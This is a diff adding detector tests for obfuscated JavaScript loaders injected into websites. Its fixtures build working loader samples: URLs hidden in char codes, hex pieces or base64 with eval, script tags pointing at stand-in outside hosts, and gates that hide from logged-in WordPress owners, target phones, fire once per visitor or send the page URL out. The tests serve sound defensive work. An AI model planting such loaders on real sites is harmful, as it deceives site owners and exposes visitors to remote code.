@@ -563,3 +563,191 @@ def test_letters_joined_into_words_that_go_nowhere_foreign_are_not_findings():
     findings, _ = run(_page("var az=['a','b','c','d','e','f','g','h','i'].join('');"
                             "location.href='/glossary/'+az.charAt(0);"))
     assert not findings, [f.message for f in findings]
+
+
+# --------------------------------------------------------------------------- loaders that hide their URL
+# Each technique as a loader to an unrelated host next to near misses: the same code aimed at the
+# site itself, a sister site or a listed CDN, and the honest snippets that use the same tricks
+# (e-mail protectors, analytics snippets, old ad tags that split 'ht'+'tp://').
+
+from detector.detectors.script_injection import (  # noqa: E402
+    GATE_FLAG, GATE_OWNER, GATE_PHONES, SIGNAL_LEAK, Intent, _Tracer, agreement, resolved_tier,
+)
+
+OWN_AND_LISTED = ("https://static.town-bakery.com/js/app.js", "https://town-bakery.de/js/app.js",
+                  "https://cdnjs.cloudflare.com/ajax/libs/app/1.0/app.js")
+
+
+def _tier(script: str, fid: str = "SEO301"):
+    f = _best(_page(script), fid)
+    return (f.severity, f.confidence) if f is not None else None
+
+
+def _nothing(script: str):
+    findings, _ = run(_page(script))
+    strong = [f for f in findings if weight(f) >= 0.15]
+    assert not strong, [f.message for f in strong]
+
+
+LOOP_DECODED = lambda url, flag=True: (  # noqa: E731
+    f"var k=[{_codes(url)}],o='';for(var i=0;i<k.length;i++){{o+=String.fromCharCode(k[i]);}}"
+    + ("if(!window.__bm){window.__bm=1;" if flag else "{")
+    + "document.write('<scr'+'ipt src=\"'+o+'?t='+Date.now()+'\"></scr'+'ipt>');}")
+
+
+def test_char_codes_decoded_in_a_loop_and_written_through_a_split_tag():
+    # the URL lands in a variable one character at a time, then in a '<scr'+'ipt src="'+o+'">'
+    assert _tier(LOOP_DECODED("https://cdn.brisk-metrics.top/js/app.js")) == ("high", "medium")  # .top + window flag
+    assert _tier(LOOP_DECODED("https://cdn.brisk-metrics.top/js/app.js", flag=False)) == ("medium", "medium")
+    # a window flag is what honest loaders use against double inclusion: alone it is nothing
+    _nothing(LOOP_DECODED("https://cdn.brisk-metrics.com/js/app.js"))
+    for url in OWN_AND_LISTED:
+        _nothing(LOOP_DECODED(url))
+
+
+APPLY_DECODED = lambda url, gate=True: (  # noqa: E731
+    f"var p=[{_codes(url)}];var e=document.createElement(String.fromCharCode({_codes('script')}));"
+    "e.src=String.fromCharCode.apply(null,p);"
+    + (f"if(document.cookie.indexOf(String.fromCharCode({_codes('wordpress_logged_in')}))<0)" if gate else "")
+    + "{document.body.appendChild(e);}")
+
+
+def test_char_codes_through_apply_with_the_tag_name_spelled_in_codes_and_a_login_cookie_gate():
+    # skipping logged-in users hides the loader from the site's owner: a strong gate
+    assert _tier(APPLY_DECODED("https://www.vendra-widgets.com/w/loader.js")) == ("medium", "medium")
+    # the file passes for a library the site would load from itself or a CDN: a second signal
+    assert _tier(APPLY_DECODED("https://www.vendra-widgets.com/w/jquery.min.js")) == ("high", "high")
+    # a vendor's encoded widget without any gate: nothing (as before)
+    _nothing(APPLY_DECODED("https://www.vendra-widgets.com/w/loader.js", gate=False))
+    for url in OWN_AND_LISTED:
+        _nothing(APPLY_DECODED(url))
+
+
+def test_char_codes_decoded_by_map():
+    def js(url):
+        return (f"var u=[{_codes(url)}].map(function(c){{return String.fromCharCode(c)}}).join('');"
+                "if(document.cookie.indexOf('_mv=')<0){document.cookie='_mv=1';var s=document.createElement('script');"
+                "s.src=u;document.head.appendChild(s);}")
+    assert _tier(js("https://lib.quorvix.xyz/c.js")) == ("high", "high")  # cheap TLD + once per visitor
+    for url in OWN_AND_LISTED:
+        _nothing(js(url))
+
+
+IIFE_LOADER = lambda url: (  # noqa: E731
+    f"var q=String.fromCharCode({_codes(url)});(function(w,d,src){{var s=d.createElement('script');"
+    "s.src=src+'?ref='+encodeURIComponent(d.referrer)+'&h='+d.location.hostname;d.head.appendChild(s);})(window,document,q);")
+
+
+def test_url_handed_to_an_immediately_invoked_loader_that_reports_the_page():
+    # Google's tag file name on an unrelated, unlisted host, plus the referrer sent along
+    f = _best(_page(IIFE_LOADER("https://tag.orvella-stats.com/ga.js")), "SEO301")
+    assert (f.severity, f.confidence) == ("high", "medium") and f.evidence["domain"] == "orvella-stats.com"
+    assert "ga library" in f.message and SIGNAL_LEAK in f.message
+    # reporting the page is what counters do: alone it adds nothing
+    _nothing(IIFE_LOADER("https://tag.orvella-stats.com/widget.js"))
+    for url in OWN_AND_LISTED + ("https://www.google-analytics.com/ga.js",):
+        _nothing(IIFE_LOADER(url))
+
+
+def test_analytics_snippet_passing_its_url_as_an_argument_is_not_a_finding():
+    # the classic analytics snippet: the URL handed to an immediately invoked function, in plain text
+    ga = ("(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},"
+          "i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;"
+          "m.parentNode.insertBefore(a,m)})(window,document,'script','%s','ga');")
+    _nothing(ga % "https://www.google-analytics.com/analytics.js")
+    _nothing(ga % "https://stats.fernwood-analytics.com/ga.js")  # a self-hosted counter elsewhere: plain, not hidden
+
+
+PIECES = lambda url, cut=(8, 18, -5), esc=_hex: (  # noqa: E731
+    "var h=[" + ",".join("'" + esc(p) + "'" for p in (url[:cut[0]], url[cut[0]:cut[1]], url[cut[1]:cut[2]], url[cut[2]:])) + "];"
+    "if(/iPhone|Android/i.test(navigator.userAgent)&&!localStorage.getItem('_m')){localStorage.setItem('_m','1');"
+    "var s=document.createElement('script');s.src=h.join('')+'?u='+btoa(location.href);document.head.appendChild(s);}")
+
+
+def test_escaped_url_pieces_joined_for_phones_once_per_browser():
+    f = _best(_page(PIECES("https://m-promo.keltra.club/r.js")), "SEO301")
+    assert (f.severity, f.confidence) == ("high", "high"), f
+    assert GATE_PHONES in f.message and "once per visitor" in f.message and f.evidence["domain"] == "keltra.club"
+    assert _tier(PIECES("https://m-promo.keltra.club/r.js", esc=str)) == ("high", "high")  # pieces not even escaped
+    # cut around a domain left whole and in plain sight, nothing is hidden: not SEO301's
+    assert _tier(PIECES("https://m-promo.keltra.club/r.js", cut=(8, 16, -5), esc=str)) is None
+    for url in OWN_AND_LISTED:
+        _nothing(PIECES(url))
+        _nothing(PIECES(url, esc=str))
+
+
+def test_escaped_url_pieces_joined_by_concat():
+    def js(url):
+        parts = ",".join(f"'{_hex(p)}'" for p in (url[:8], url[8:20], url[20:]))
+        return ("if(document.cookie.indexOf('_cc')<0){document.cookie='_cc=1';var s=document.createElement('script');"
+                f"s.src=''.concat({parts});document.body.appendChild(s);}}")
+    assert _tier(js("https://cdn.dravik-tools.xyz/s.js")) == ("high", "high")
+    for url in OWN_AND_LISTED:
+        _nothing(js(url))
+
+
+def test_atob_layer_that_creates_the_element_through_a_computed_member():
+    def js(url):
+        payload = ("(function(){if(document.cookie.indexOf('_z=')>-1)return;document.cookie='_z=1;path=/';"
+                   f"var s=document[_t[0]]('script');s.src='{url}';document.body.appendChild(s)}})()")
+        return f"var _t=['{_hex('createElement')}'];eval(atob('{base64.b64encode(payload.encode()).decode()}'));"
+    f = _best(_page(js("https://lib.quorvix.xyz/c.js")), "SEO301")
+    assert (f.severity, f.confidence) == ("high", "high") and f.evidence["domain"] == "quorvix.xyz"
+    for url in OWN_AND_LISTED:
+        _nothing(js(url))
+
+
+def test_a_computed_call_that_reads_script_elements_is_not_a_created_one():
+    site = "town-bakery.com"
+    made = script_intents("var s=document[k[0]]('script');s.src='https://a.quorvix.xyz/x.js';", site)
+    assert [i.kind for i in made] == ["writes-resource"]
+    # document[k[1]]('script')[0] is getElementsByTagName's first script, not a new one
+    assert not script_intents("var f=document[k[1]]('script')[0];f.src='https://a.quorvix.xyz/x.js';", site)
+
+
+def test_email_protector_and_old_split_ad_tags_are_not_findings():
+    # Cloudflare-style e-mail protection: char codes decoded in a loop, nothing loaded
+    _nothing("!function(){function r(e,t){return parseInt(e.substr(t,2),16)}function n(e,t){for(var o='',a=r(e,t),i=t+2;"
+             "i<e.length;i+=2){var l=r(e,i)^a;o+=String.fromCharCode(l)}return decodeURIComponent(escape(o))}"
+             "for(var c=document.querySelectorAll('a.__cf_email__'),i=0;i<c.length;i++){var d=c[i];"
+             "d.textContent=n(d.getAttribute('data-cfemail'),0)}}();")
+    # an old ad tag: the scheme cut in two, the host in plain sight, a cookie read and set
+    _nothing("var dc=document;var e=escape(dc.referrer);dc.cookie='mc=y';var c=(dc.cookie.indexOf('mc')>=0?'Y':'N');"
+             "var u='ht'+'tp://media.adsnet-legacy.com/w';var i=u+'/get.media?sid=1371&r='+e;"
+             "dc.writeln('<ifr'+'ame src=\"'+i+'&d=f\" width=468 height=60 frameborder=0></iframe>');")
+
+
+def test_resolve_code_reads_short_codes_pieces_and_split_tags():
+    res = resolve_code(f"var e=document.createElement(String.fromCharCode({_codes('script')}));")
+    assert "createElement('script')" in res.code
+    res = resolve_code("var p=['" + _hex("https://") + "','a.example','/x.js'];s.src=p.join('');")
+    assert "s.src='https://a.example/x.js'" in res.code and "string pieces joined" in res.techniques
+    res = resolve_code("s.src=''.concat('" + _hex("https://") + "','a.example');")
+    assert "s.src='https://a.example'" in res.code
+    res = resolve_code(f"var k=[{_codes('https://a.example/')}];document.write('<scr'+'ipt src=\"'+k+'\"></scr'+'ipt>')")
+    assert "'<script src=\"'" in res.code
+
+
+def test_tracer_follows_loops_and_arguments():
+    site = "town-bakery.com"
+    js = "var a='https://x.quorvix.xyz/j.js',o='';for(var i=0;i<a.length;i++){o+=a.charAt(i)}document.write(o)"
+    assert _Tracer(js, site).target("o", len(js))[1] == "quorvix.xyz"
+    js = "var q='https://x.quorvix.xyz/j.js';(function(d,u){var s=d.createElement('script');s.src=u+'?x=1'})(document,q);"
+    assert _Tracer(js, site).target("u+'?x=1'", js.index("s.src"))[1] == "quorvix.xyz"
+    js = "var a='https://', b='x.quorvix', c='.xyz/j.js';s.src=a+b+c;"
+    assert _Tracer(js, site).target("a+b+c", js.index("s.src"))[1] == "quorvix.xyz"
+    assert _Tracer("var a='https://www.town-bakery.com/j.js';s.src=a;", site).target("a", 50) is None
+
+
+def test_new_gates_and_how_much_they_weigh():
+    assert GATE_OWNER in _gates("if(document.cookie.indexOf('wordpress_logged_in')==-1){go()}")
+    assert GATE_PHONES in _gates("if(/iPhone|Android/i.test(navigator.userAgent)){go()}")
+    assert GATE_PHONES not in _gates("if(/Android/i.test(navigator.userAgent)&&!/bot/i.test(navigator.userAgent)){go()}")
+    assert GATE_FLAG in _gates("if(!window._q){window._q=1;go()}")
+    assert GATE_FLAG not in _gates("if(!window.jQuery){load()}")  # a test without a set: a feature check
+    base = dict(kind="writes-resource", detail="", url="https://a.example", domain="a.example")
+    assert agreement(Intent(**base, gates=(GATE_FLAG, SIGNAL_LEAK))) == 0  # corroborate only
+    assert resolved_tier(Intent(**base, gates=(GATE_FLAG, SIGNAL_LEAK))) is None
+    assert agreement(Intent(**base, gates=(GATE_OWNER, GATE_FLAG))) == 1.5
+    assert agreement(Intent(**base, gates=(GATE_PHONES,))) == 0.5
+    assert agreement(Intent(**base, disguise="named like the jquery library")) == 1
